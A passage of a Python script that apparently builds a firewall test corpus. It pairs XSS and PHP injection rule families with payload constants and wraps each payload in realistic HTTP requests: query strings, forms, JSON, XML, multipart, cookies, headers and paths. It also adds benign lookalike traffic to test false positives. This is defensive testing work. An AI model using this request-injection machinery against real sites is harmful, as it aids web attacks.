    ("php", "php-serialized-object-injection", PHP_SERIALIZED, SERIAL_REAL, SERIAL_RS),
    ("php", "php-variable-function-call-found-933180", PHP_VAR_FUNC, PHP_REAL, PHP_RS),
    ("php", "php-variable-function-call-found-933210", PHP_VAR_FUNC_STRING, PHP_REAL, PHP_RS),
    ("php", "php-medium-risk-function-name-found", PHP_MEDIUM_NAME, PHP_REAL, PHP_RS),
    ("xss", "xss-libinjection-941100", XSS_LIBINJECTION, XSS_REAL, XSS_RS),
    ("xss", "xss-libinjection-941101", XSS_LIBINJECTION_PL2, PATH_REAL, PATH_RS),
    ("xss", "xss-script-tag-vector", XSS_SCRIPT_TAG, XSS_REAL, XSS_RS),
    ("xss", "xss-event-handler-vector", XSS_EVENT_HANDLER, XSS_REAL, XSS_RS),
    ("xss", "xss-attribute-vector", XSS_ATTRIBUTE, XSS_REAL, XSS_RS),
    ("xss", "xss-javascript-uri-vector", XSS_JS_URI, XSS_REAL, XSS_RS),
    ("xss", "noscript-html-injection", NOSCRIPT_HTML, XSS_REAL, XSS_RS),
    ("xss", "noscript-attribute-injection", NOSCRIPT_ATTRIBUTE, XSS_REAL, XSS_RS),
    ("xss", "node-validator-blacklist-keywords", NODE_VALIDATOR, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941190", IE_STYLE, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941200", IE_VMLFRAME, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941210", IE_JAVASCRIPT, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941220", IE_VBSCRIPT, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941230", IE_EMBED, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941240", IE_IMPORT, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941250", IE_META_EQUIV, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941260", IE_META_CHARSET, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941270", IE_LINK, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941280", IE_BASE, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941290", IE_APPLET, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941300", IE_OBJECT, XSS_REAL, XSS_RS),
    ("xss", "us-ascii-malformed-encoding-xss", US_ASCII, XSS_REAL, XSS_RS),
    ("xss", "utf7-encoding-ie-xss", UTF7, XSS_REAL, XSS_RS),
    ("xss", "jsfuck-hieroglyphy-obfuscation", JSFUCK, XSS_REAL, XSS_RS),
    ("xss", "javascript-global-variable", JS_GLOBAL, XSS_REAL, XSS_RS),
    ("xss", "xss-disallowed-html-attributes", XSS_DISALLOWED_ATTR, XSS_REAL, XSS_RS),
    ("xss", "xss-html-tag-handler", XSS_TAG_HANDLER, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941330", IE_LOCATION, XSS_REAL, XSS_RS),
    ("xss", "ie-xss-filters-941340", IE_PROPERTY, XSS_REAL, XSS_RS),
    ("xss", "angularjs-client-side-template-injection", ANGULAR, XSS_REAL, XSS_RS),
    ("xss", "javascript-method-detected", JS_METHOD, XSS_REAL, XSS_RS),
    ("xss", "xss-javascript-function-without-parentheses", JS_NO_PARENS, XSS_REAL, XSS_RS),
]

# the title whose payloads carry single high-bit bytes: percent-encoded as Latin-1 in URLs and forms
LATIN1_SUBS = {"us-ascii-malformed-encoding-xss"}

RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/", "/index.php", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
QUERY_NAMES = ["q", "name", "filter", "sort", "callback", "next", "email", "title"]
FORM_NAMES = ["q", "display_name", "notes", "department", "title", "location"]
JSON_FIELDS = ["bio", "name", "title", "department", "website", "nickname"]

# ---------------------------------------------------------------------------------------------------------------
# Building one request
# ---------------------------------------------------------------------------------------------------------------


def _tok(seed: str, n: int = 24) -> str:
    """A deterministic token for session cookies, CSRF tokens and multipart boundaries."""
    return hashlib.sha256(seed.encode()).hexdigest()[:n]


def _q(value: str, enc: str = "utf-8") -> str:
    """A query or form component as a browser percent-encodes it (nothing left raw but unreserved characters)."""
    return urllib.parse.quote(value, safe="", encoding=enc, errors="strict")


def _qs(pairs: list[tuple[str, str]], enc: str = "utf-8") -> str:
    return "&".join(f"{_q(k, enc)}={_q(v, enc)}" for k, v in pairs)


def _seg(value: str) -> str:
    """A path segment: RFC 3986 pchar left raw, everything else percent-encoded (/, ?, #, %, space, quotes...)."""
    return urllib.parse.quote(value, safe="!$&'()*+,;=:@-._~")


def _cookie_enc(value: str) -> str:
    """A cookie value or name as it must travel for the application (PHP) to read it back: `;`, `%`, `+`, `,`,
    controls and non-ASCII percent-encoded, the rest raw."""
    return urllib.parse.quote(value, safe=" !\"#$&'()*/:<=>?@[\\]^_`{|}~")


def _xml_text(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _xml_attr(value: str) -> str:
    return _xml_text(value).replace("\"", "&quot;").replace("\n", "&#10;").replace("\t", "&#9;")


def _header_ok(value: str) -> bool:
    return not any(c in value for c in "\r\n\x00")


def _real_headers(seed: str, accept: str = "application/json", cookie: str = "") -> dict[str, str]:
    return {"User-Agent": BROWSER_UA, "Accept": accept, "Accept-Language": "en-US,en;q=0.9",
            "Accept-Encoding": "gzip, deflate, br", "Referer": "https://app.example.com/admin/users",
            "Cookie": f"session={_tok(seed)}; consent=analytics%3A0%7Cads%3A0" + (f"; {cookie}" if cookie else "")}


def _rs_headers() -> dict[str, str]:
    return {"User-Agent": RS_UA, "Accept": "*/*"}


def _multipart(fields: list[tuple[str, str, str | None]], seed: str) -> tuple[str, str]:
    """A multipart/form-data body of (name, value, filename or None) parts; (body, content type)."""
    boundary = "----WebKitFormBoundary" + _tok(seed, 16)
    parts = []
    for name, value, filename in fields:
        disp = f"Content-Disposition: form-data; name=\"{name}\""
        if filename is None:
            parts.append(f"--{boundary}\r\n{disp}\r\n\r\n{value}\r\n")
        else:
            parts.append(f"--{boundary}\r\n{disp}; filename=\"{filename}\"\r\nContent-Type: image/png\r\n\r\n"
                         f"{value}\r\n")
    return "".join(parts) + f"--{boundary}--\r\n", f"multipart/form-data; boundary={boundary}"


def _req(method: str, uri: str, headers: dict[str, str], body: str = "") -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": headers}


def _json_doc(place: str, p: str, k: int) -> Any:
    field = JSON_FIELDS[k % len(JSON_FIELDS)]
    if place.endswith("json"):
        return {"name": "Dana Whitfield", "email": "dana@example.org", field: p}
    if place.endswith("json-d2"):
        return {"name": "Dana Whitfield", "profile": {field: p, "locale": "en-GB"}}
    if place.endswith("json-d3"):
        return {"settings": {"notifications": {"template": p, "channel": "email"}}, "version": 3}
    if place.endswith("json-d4"):
        return {"data": {"attributes": {"address": {"street": p, "city": "Leeds"}}}, "type": "users"}
    if place.endswith("json-array"):
        return {"name": "Dana Whitfield", "tags": ["ops", p, "on-call"]} if k % 2 else \
            {"items": [{"sku": "A-100", "note": "gift wrap"}, {"sku": "B-200", "note": p}]}
    if place.endswith("json-key"):
        return {"name": "Dana Whitfield", p: "1"}
    return {"name": "Dana Whitfield", "meta": {"labels": {p: True}}}   # json-key-d2


def build(place: str, p: str, k: int, sub: str, seed: str) -> dict[str, Any] | None:
    """The request that carries payload `p` in `place` (the k-th of its title), or None when `p` cannot sit
    there as it must."""
    enc = "latin-1" if sub in LATIN1_SUBS else "utf-8"
    rs = place.startswith("rs-")
    base = place[3:] if rs else place
    get_path = RS_GET_PATHS[k % len(RS_GET_PATHS)]
    post_path = RS_POST_PATHS[k % len(RS_POST_PATHS)]
    name = RS_NAMES[k % len(RS_NAMES)] if rs else QUERY_NAMES[k % len(QUERY_NAMES)]
    headers = _rs_headers() if rs else _real_headers(seed)
    csrf = [] if rs else [("csrf_token", _tok(seed + "csrf", 32))]
    form_name = name if rs else FORM_NAMES[k % len(FORM_NAMES)]
    form_uri = post_path if rs else "/admin/users/search"
    if base == "query":
        uri = f"{get_path}?{name}={_q(p, enc)}" if rs else \
            f"/api/users?page={k % 4 + 1}&{name}={_q(p, enc)}&per_page=20"
        return _req("GET", uri, headers)
    if base == "raw-query":
        raw = urllib.parse.quote(p, safe="=&-/:._").replace("%20", "+")
        return _req("GET", f"{'/cgi-bin/test.cgi' if rs else '/api/users'}?{raw}", headers)
    if base == "param-name":
        uri = f"{get_path}?{_q(p, enc)}=x" if rs else f"/api/users?{_q(p, enc)}=1&page=2"
        return _req("GET", uri, headers)
    if base in ("form", "form-name"):
        pair = (form_name, p) if base == "form" else (p, "1")
        return _req("POST", form_uri, {**headers, "Content-Type": "application/x-www-form-urlencoded"},
                    _qs([*csrf, pair], enc))
    if base == "raw-form":
        return _req("POST", post_path, {**headers, "Content-Type": "application/x-www-form-urlencoded"}, p)
    if base == "raw-text" or base == "raw-body":
        return _req("POST", post_path if rs else "/api/users", {**headers, "Content-Type": "text/plain"}, p)
    if base == "raw-json":
        return _req("POST", post_path, {**headers, "Content-Type": "application/json"}, json.dumps(p))
    if base.startswith("json"):
        doc = {name: p} if rs and base == "json" else \
            {"x": {"y": p}} if rs and base == "json-d2" else _json_doc(base, p, k)
        method, uri = ("POST", post_path) if rs else \
            ("PATCH", "/api/users/42") if base in ("json-d2", "json-key-d2") else ("POST", "/api/users")
        return _req(method, uri, {**headers, "Content-Type": "application/json"},
                    json.dumps(doc, ensure_ascii=False))
    if base in ("xml", "xml-text", "xml-attr"):
        if base == "xml-attr":
            body = f"<?xml version=\"1.0\"?><user id=\"42\" note=\"{_xml_attr(p)}\"><name>Dana</name></user>"
            if rs:
                body = f"<?xml version=\"1.0\"?><root><{name} value=\"{_xml_attr(p)}\"/></root>"
        elif rs:
            body = f"<?xml version=\"1.0\"?><root><{name}>{_xml_text(p)}</{name}></root>"
        elif k % 3 == 2 and "]]>" not in p:
            body = f"<?xml version=\"1.0\"?><user><name>Dana</name><bio><![CDATA[{p}]]></bio></user>"
        else:
            body = f"<?xml version=\"1.0\"?><user><name>Dana</name><bio>{_xml_text(p)}</bio></user>"
        return _req("POST", post_path if rs else "/api/users", {**headers, "Content-Type": "application/xml"}, body)
    if base in ("multipart", "multipart-field", "multipart-name", "multipart-filename"):
        if base in ("multipart-name", "multipart-filename") and any(c in p for c in "\"\r\n"):
            return None
        if base == "multipart-filename":
            fields: list[tuple[str, str, str | None]] = [*[(a, b, None) for a, b in csrf],
                                                         ("file" if rs else "avatar", "placeholder image bytes", p)]
            uri = post_path if rs else "/api/users/42/avatar"
        else:
            part = (form_name, p, None) if base in ("multipart", "multipart-field") else (p, "1", None)
            fields = [*[(a, b, None) for a, b in csrf], part]
            uri = form_uri
        body, ctype = _multipart(fields, seed)
        return _req("POST", uri, {**headers, "Content-Type": ctype}, body)
    if base in ("cookie", "cookie-name"):
        if not _header_ok(p):
            return None
        if base == "cookie-name" and any(c in p for c in "=;"):
            return None
        crumb = f"{name if rs else 'prefs'}={_cookie_enc(p)}" if base == "cookie" else f"{_cookie_enc(p)}=1"
        if rs:
            return _req("GET", get_path, {**headers, "Cookie": crumb})
        return _req("GET", "/api/users?page=1", _real_headers(seed, cookie=crumb))
    if base.startswith("header:"):
        if not _header_ok(p):
            return None
        hname = base.split(":", 1)[1]
        if hname == "X-Custom":
            hname = "X-Custom-Header"
        value = p
        if hname == "Referer" and not rs and "://" not in p and not p.lower().startswith(("javascript:", "data:")):
            value = "https://app.example.com/users?q=" + p
        uri = get_path if rs else "/api/users?page=1"
        if hname in ("X-Filename", "X-File-Name"):
            return _req("PUT", post_path if rs else "/api/users/42/avatar",
                        {**headers, hname: value, "Content-Type": "application/octet-stream"}, "placeholder bytes")
        return _req("GET", uri, {**headers, hname: value})
    if base in ("path", "path-file", "path-matrix"):
        seg = _seg(p)
        if rs:
            uri = {"path": f"/{seg}", "path-file": f"/cgi-bin/{seg}", "path-matrix": f"/index.php;{seg}"}[base]
        else:
            uri = {"path": f"/api/users/{seg}/roles", "path-file": f"/api/files/{seg}",
                   "path-matrix": f"/api/users/42;v={seg}"}[base]
        return _req("GET", uri, headers)
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, (family, sub, payloads, real, rs) in enumerate(TITLES):
        for i, p in enumerate(payloads):
            for places in (real, rs):
                for step in range(len(places)):
                    place = places[(i + t + step) % len(places)]
                    n += 1
                    rec = build(place, p, i, sub, f"{NAME}-{n}")
                    if rec is not None:
                        break
                    n -= 1
                else:
                    raise ValueError(f"no place for {p!r}")
                yield {**rec, "id": f"{NAME}-{family}-{n:04d}", "category": family, "sub": sub,
                       "placement": place, "payload": p}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, as people type them
# ---------------------------------------------------------------------------------------------------------------

CHAT = [
    "the onboarding script runs on every new laptop, ping me if it fails",
    "alert fatigue is real, I muted the staging alerts channel",
    "document the cookie consent flow before Friday please",
    "window cleaners are coming on Tuesday, move your plants off the sills",
    "I'll embed the quarterly chart in the wiki page",
    "the object storage bill went down after the cleanup",
    "base salary bands for 2025 are in the HR portal",
    "link to the retro doc is pinned in the channel",
    "meta: can we keep standup under 15 minutes?",
    "style guide says sentence case for headings",
    "we moved the php monolith behind the new gateway last sprint",
    "import the CSV again, the dates were off by one",
    "our location data comes from the office directory",
    "the name field allows 80 characters now",
    "the system status page shows all green",
    "exec team offsite is in Lisbon this year",
    "include the ticket number in the commit message",
    "the expression on his face when the demo finally worked",
    "javascript bundle size dropped 30% after the tree shaking fix",
    "constructor crews are on site from 8am, expect some noise",
    "the prototype for the new dashboard is in Figma",
    "data: 42 new signups today, 3 churned",
    "template for the incident report is in Confluence",
    "the applet era is over, nobody runs Java in the browser anymore",
    "the on-call rotation swaps on Monday",
    "page onload time improved after we deferred the analytics tag",
    "please confirm the meeting room for the interview",
    "prompt engineering workshop is Thursday at 3",
    "the evaluation rubric for interns is ready",
    "parent company announced the merger today",
    "top priority this week: the billing migration",
    "self-review forms are due by the 15th",
    "the frame for the new office sign arrived",
    "the marquee customer signed the renewal!",
    "my vbscript skills are from 2004, don't ask",
    "we store display prefs in a cookie, nothing secret in there",
    "the ng-app attribute is gone since we left AngularJS",
    "the greeting template uses double curly braces around the first name",
    "the error handler now logs the request id",
    "the filter on the dashboard defaults to the last 7 days",
    "session timeout is 30 minutes on the admin panel",
    "upload your avatar as PNG or JPG, max 2 MB",
    "the serializer writes ISO dates now",
    "global variable names are banned by the linter",
    "function names should be verbs, like fetchUsers",
    "the stream of events from Kafka is lagging again",
    "input validation lives in the API layer, not the UI",
    "the refresh token lasts 30 days",
    "charset is UTF-8 everywhere, please don't save files as Latin-1",
    "PHP 8.3 upgrade is scheduled for the legacy billing app",
    "the user agent string from the mobile app includes the build number",
    "the file upload limit for the admin panel is 8 MB",
    "the html email template broke in Outlook again",
    "we render markdown, not raw HTML, in comments",
    "the href in the footer still points to the old domain",
    "the analytics script loads async now",
    "the config directive for upload size lives in the ops repo",
    "the wrapper around the payments SDK needs tests",
    "system design interview loop starts next week",
    "the serialized report export is a CSV, not JSON",
    "heads up: the alert thresholds for the API changed to p95 over 800ms",
    "who owns the cookie banner copy? legal wants a tweak",
    "the import from the old CRM finished overnight, 12k contacts",
    "can someone document how the upload size limit works?",
    "we should embed the status widget on the help center",
    "the script for the all-hands demo is in the shared drive",
    "location services are off on the test phones, turn them on",
    "the base image for the API got a security patch",
    "I'm out on Friday, Sam covers the on-call window",
    "object lock is enabled on the backup bucket now",
    "the new style sheet for emails is merged",
    "the link preview for our blog shows the wrong image",
    "meta tags on the marketing site need a refresh",
    "the evaluation period for the BI tool ends next week",
    "who can confirm the parent account for Acme Retail?",
    "the php-fpm workers are fine after the restart",
    "the frame rate on the dashboard charts is much better now",
    "the session replay tool is off for EU users",
    "template literals make the log lines easier to read",
    "the global search now includes archived tickets",
    "exec summary for the board is due Wednesday",
    "prompt for the survey: what slows you down the most?",
    "the system clock on the build box drifted again",
    "top of the backlog: the avatar upload bug",
    "the expression builder in the reports tool is confusing users",
    "data retention policy is 30 days for logs",
    "the window for the maintenance is Sunday 2-4am",
    "stream processing costs went up 12% this month",
    "the input mask for phone numbers is too strict",
    "the onboarding checklist has 14 steps, let's cut it down",
]

SEARCHES = [
    "Dana Whitfield", "script supervisor", "Alert Logistics Ltd", "O'Brien", "window fitter", "Meta Platforms",
    "Base Camp Coffee", "link building", "style guide", "php developer", "embedded systems engineer",
    "object storage", "expression of interest", "import/export", "data science", "vbscript migration",
    "javascript developer", "system administrator", "exec assistant", "location: Paris", "name contains ann",
    "onboarding", "frame shop", "marquee events", "applet", "Ed Eval", "Prompt Ltd", "Confirm Bank",
    "document control", "cookie jar bakery", "top gear", "self storage", "parent portal", "charset",
    "McDonald", "Zoë Ångström", "José Núñez", "Müller & Söhne", "Ren\u00e9e", "D'Angelo", "St. John-Smith",
    "ACME (UK) Ltd", "R&D", "100% cotton", "C++ developer", "C# / .NET", "Node.js", "AT&T", "Q3 2024",
    "size: 10-12", "+44 20 7946 0958", "#marketing", "@dana", "x-ray technician", "sales & ops",
    "dev-ops", "first.last@example.org", "12 Main St.", "apartment 4B", "zip 94103", "front-end",
    "head of design", "embed codes", "meta description", "style", "body shop", "table tennis club",
    "form designer", "input method", "select committee", "textarea", "image gallery", "audio engineer",
    "video editor", "source control", "link", "base rate", "object", "applet viewer", "import duties",
    "the expression", "title: manager", "font designer", "bold ideas", "blink optics", "isindex",
    "on-call", "onion farm", "once upon a time", "online sales", "onboarding buddy",
]

PROSE = [
    "Customer asked why the alert email went to spam; whitelisted the sender",
    "User could not upload her avatar, the file was a HEIC photo",
    "Reset the display name after the user changed it by mistake",
    "Escalated: the export script timed out for the Leeds office",
    "Called the customer, confirmed the new billing address",
    "Please merge the two accounts for Dana Whitfield",
    "The user says the page shows a blank window after login",
    "Requested a copy of all personal data (subject access request)",
    "Customer wants the invoice title changed to 'Q3 services'",
    "Location changed from Paris to Lyon, update the tax region",
    "The embed on their site stopped working after the domain move",
    "He asked about our cookie policy and the consent banner",
    "Document sent by post, tracking number in the ticket",
    "Prompt reply needed, the customer is on a deadline",
    "The base plan does not include SSO, upsell to Business",
    "Meta data on the uploaded file looked wrong, asked for a new copy",
    "Style of the welcome email looks broken on Android",
    "Link in the password reset mail expired before she clicked it",
    "Import of 2,300 contacts failed at row 1,204 (bad date)",
    "The system sent the reminder twice; apologised and refunded",
    "Exec sponsor: Maria Lopez, VP Operations",
    "The object in the photo is the damaged parcel",
    "Customer prefers calls after 5pm, never before 9am",
    "Applet-based legacy tool retired, told them to use the web app",
    "Include the order number next time, please",
    "Window of the maintenance: Sunday 02:00-04:00 UTC",
    "Parent account owns three sub-accounts",
    "Top-up of 50 credits applied manually",
    "Self-service portal link resent",
    "Please confirm receipt of the signed contract",
    "The expression 'ASAP' in the ticket means within 24 hours here",
    "Template for refunds updated with the new wording",
    "He typed his name with curly quotes, search could not find it",
    "Data retention request: delete after 30 days",
    "Frame order #4471 delayed by the supplier",
    "Stream of duplicate tickets from the same address, merged",
    "Source of the lead: conference booth in Berlin",
    "Title changed from Mr to Dr",
    "Charset issue in the CSV: accents came out wrong, re-exported as UTF-8",
    "Customer asked whether we support PHP 8 in the SDK",
    "Onload of the dashboard is slow for users in Sydney",
    "Marquee client: handle with care, weekly check-in on Mondays",
    "Session expired during checkout, cart restored",
    "Filter by department does not include archived users",
    "The user agent in the logs shows an old Safari",
    "The refresh button does nothing on the reports page",
    "Global admin role granted to the IT lead only",
    "Function of the account: shared inbox for the finance team",
    "Serial number of the device: SN-2024-00931",
    "Config change requested: daily digest instead of instant emails",
    "Wrapper gift option added to the order",
    "Variables in the mail merge came out blank for 12 recipients",
    "Input of the phone number rejects spaces, told them to remove them",
    "Reviewed the access log with the customer's security team",
    "Evaluation licence extended by 14 days",
    "Document.pdf was empty, asked for a re-upload",
    "Table of contents missing from the exported report",
    "Bold claim in the sales deck, legal asked to soften it",
    "Italic text in the signature breaks in Outlook",
    "Text area for notes now allows 2,000 characters",
]

PROFILES: list[dict[str, Any]] = [
    {"name": "Dana Whitfield", "title": "Script Supervisor", "address": {"street": "12 Script Lane", "city": "Leeds"}},
    {"name": "Sam O'Neil", "title": "Head of Alerting", "address": {"street": "4 Window Row", "city": "York"}},
    {"name": "Zoë Ångström", "title": "Embedded Engineer", "address": {"street": "Storgatan 8", "city": "Umeå"}},
    {"name": "José Núñez", "title": "PHP Developer", "address": {"street": "Calle Mayor 3", "city": "Madrid"}},
    {"name": "Priya Raman", "title": "Data Scientist", "address": {"street": "22 Base Road", "city": "Pune"}},
    {"name": "Tom Link", "title": "Systems Administrator", "address": {"street": "1 Meta Close", "city": "Bath"}},
    {"name": "Ana Style", "title": "Executive Assistant", "address": {"street": "9 Frame St", "city": "Porto"}},
    {"name": "Li Wei", "title": "JavaScript Engineer", "address": {"street": "88 Object Ave", "city": "Taipei"}},
    {"name": "Mary-Kate Eval", "title": "Evaluation Lead", "address": {"street": "3 Import Sq", "city": "Cork"}},
    {"name": "Olu Adeyemi", "title": "Location Manager", "address": {"street": "5 Marquee Ln", "city": "Lagos"}},
]
BIOS = [
    "I write deployment scripts and the occasional alert rule.",
    "Front-end developer: HTML, CSS and a lot of JavaScript.",
    "Ten years of PHP, now mostly Go and TypeScript.",
    "I embed with product teams to improve their onboarding.",
    "Photographer; my window-light portraits are on my site.",
    "I like documenting things. Cookie enthusiast.",
    "Previously at Meta, now building base infrastructure.",
    "Style: minimal. Links: see my profile.",
    "Data engineer; I import, clean and export data all day.",
    "Former exec assistant turned system administrator.",
    "Top 10 finisher at the city marathon (self-coached).",
    "Parent of two, part-time frame builder.",
    "Confirmed speaker at PHP UK and JSConf.",
    "I answer prompts, write prompts, and sometimes ignore prompts.",
    "Love the expression 'measure twice, cut once'.",
    "I work on the object model and the template engine.",
    "Ex-VBScript, ex-ASP, now happily on the JVM.",
    "I build embedded systems for greenhouses.",
    "Cookie banner, consent and privacy work is my thing.",
    "Ask me about Applets, I was there.",
]

UAS = [
    BROWSER_UA,
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
    "Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "python-httpx/0.27.0",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "PostmanRuntime/7.39.0",
    "axios/1.7.2",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Java/17.0.11",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "GuzzleHttp/7",
    "Symfony HttpClient/Php",
    "WordPress/6.5.4; https://blog.example.com",
    "AcmeApp/3.14.2 (iPhone; iOS 17.5; Scale/3.00)",
    "AcmeApp/3.14.2 (Android 14; Pixel 8; build 31402)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Wget/1.21.4",
    "HTTPie/3.2.2",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240605.024)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
    "Zapier",
]

REFERERS = [
    "https://app.example.com/admin/users?page=2",
    "https://www.google.com/",
    "https://www.bing.com/search?q=acme+user+directory",
    "https://duckduckgo.com/?q=php+developer+leeds&ia=web",
    "https://app.example.com/search?q=script+supervisor",
    "https://app.example.com/users/42/edit#profile",
    "https://docs.example.com/api/v2/users?include=address&sort=-created_at",
    "https://www.php.net/manual/en/function.htmlspecialchars.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/alert",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/embed",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Content-Security-Policy",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://stackoverflow.com/questions/1732348/regex-match-open-tags-except-xhtml-self-contained-tags",
    "https://github.com/acme/api/pull/1234/files",
    "https://news.ycombinator.com/item?id=40000000",
    "https://www.linkedin.com/in/dana-whitfield/",
    "https://t.co/AbCdEf123",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fapp.example.com%2F&h=AT0x",
    "https://mail.google.com/mail/u/0/",
    "https://outlook.office.com/mail/inbox",
    "https://app.slack.com/client/T061EG9R6/C0123456789",
    "https://app.example.com/reports?from=2024-01-01&to=2024-03-31&group=week",
    "https://example.com/blog/2024/05/why-we-moved-off-php?utm_source=newsletter&utm_medium=email",
    "https://app.example.com/admin/users/search?q=O%27Brien",
    "https://app.example.com/oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://translate.google.com/?sl=de&tl=en&text=M%C3%BCller",
    "https://app.example.com/",
]

COOKIES = [
    "theme=dark", "lang=en-GB", "tz=Europe%2FLondon", "prefs=%7B%22density%22%3A%22compact%22%7D",
    "_ga=GA1.1.123456789.1719000000", "_gid=GA1.1.987654321.1719000000", "sidebar=collapsed",
    "last_search=script%20supervisor", "recent=42%2C43%2C51", "cookie_consent=necessary%2Canalytics",
    "display_name=Dana%20Whitfield", "currency=EUR", "ab_test=variant-b", "onboarding_step=3",
    "returning=1", "region=eu-west", "font_size=14", "dismissed_banner=php-8-upgrade",
    "layout=grid", "sort=-created_at", "filter=department%3Aops", "location=Leeds",
    "signup_source=alert-email", "name=Zo%C3%AB", "tour=done", "cart=A-100%3A2%7CB-200%3A1",
    "color_scheme=system", "editor=markdown", "notifications=off", "beta_features=embed-preview",
]

UPLOADS = [
    "avatar.png", "IMG_2024-05-01_0931.jpg", "Dana Whitfield.jpg", "profile photo (1).png", "headshot.webp",
    "scan 2024-06-12.pdf", "Q3 budget (final).xlsx", "contract_signed.pdf", "résumé.pdf", "logo@2x.png",
    "screenshot 2024-06-20 at 10.31.22.png", "team-offsite.heic", "IMG_0042.JPG", "passport_scan.pdf",
    "invoice-4471.pdf", "notes.txt", "slides-php-uk.pdf", "diagram.svg.png", "embed-preview.png",
    "style-guide-v2.pdf", "meta.json.txt", "alert-banner.png", "window-view.jpg", "script-notes.docx",
    "base-layer.tiff", "object-model.png", "import_template.csv", "photo.jpeg", "me_at_the_beach.jpg",
    "Müller_Ausweis.pdf", "selfie 😀.png", "cv_2024.docx", "presentation.key", "drawing.psd",
    "link-tree.png", "frame-004.png", "marquee-poster.jpg", "data-export.zip", "user_guide.md", "avatar.gif",
]

XML_TEXTS = [
    "I write deployment scripts", "Alert Logistics Ltd", "O'Brien & Sons", "Head of Embedded Systems",
    "12 Script Lane, Leeds", "Window &amp; Door Co.", "PHP developer since 2010", "Meta description writer",
    "Base camp manager", "Link building specialist", "Style consultant", "Object storage admin",
    "Import/export clerk", "Data scientist (NLP)", "Exec assistant to the CEO", "Systems administrator",
    "JavaScript trainer", "Location scout", "Evaluation engineer", "Prompt writer",
    "Frame builder", "Marquee hire", "Applet historian", "Cookie baker", "Document controller",
    "Template designer", "Top-up coordinator", "Self-employed", "Parent governor", "Zoë Ångström",
]

PARAM_NAMES = [
    "filter[department]", "filter[location]", "sort", "tags[]", "fields[users]", "include", "page[size]",
    "page[number]", "q", "name", "email", "title", "created_at[gte]", "created_at[lte]", "status", "role",
    "team_id", "embed", "expand", "format", "lang", "tz", "utm_source", "utm_campaign", "ref", "view",
    "columns[]", "search[value]", "order[0][column]", "order[0][dir]",
]
PARAM_VALUES = [
    "ops", "Leeds", "-created_at", "on-call", "name,email", "address", "50", "2", "script supervisor",
